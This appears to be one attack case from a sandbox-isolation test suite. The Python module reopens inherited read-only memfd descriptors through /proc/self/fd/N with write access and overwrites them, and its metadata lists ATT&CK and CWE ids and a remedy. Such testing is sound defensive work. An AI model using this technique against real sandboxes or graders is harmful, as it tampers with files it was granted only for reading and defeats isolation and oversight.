# SPDX-License-Identifier: MIT
"""Goal:  a file is changed that was given for reading only.
Means: O_RDONLY belongs to the description, not to the file. open() of /proc/self/fd/N makes a new
       description of the same file, and asks for the rights of the file's mode.
"""

import fcntl
import os

from attack import DONE, attempting, denied

HIGHEST = 1024


def for_reading():
    """The inherited files that are open for reading only."""
    for fd in range(3, HIGHEST):
        try:
            readable = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY
            if readable and os.readlink(f"/proc/self/fd/{fd}").startswith("/memfd:"):
                yield fd
        except OSError:
            pass  # nothing there


def run(_brief):
    why = "no file was inherited for reading"
    attempting()
    for fd in for_reading():
        try:
            with open(f"/proc/self/fd/{fd}", "r+b", buffering=0) as file:
                file.write(b"not what it was")
            return DONE
        except OSError as error:
            why = error
    return denied("open for writing", why)


ATTACK = {
    "effect": "a file that the worker gave for reading only is changed",
    "means": "open() of /proc/self/fd/N for writing",
    "oracle": "description",
    "attack_id": "T1565.001, CWE-403, CWE-732",
    "remedy": "close_range(2) before the student's program starts; a mode of 0400; sealed files",
    "refs": ["proc_pid_fd(5)", "memfd_create(2)"],
    "run": run,
}
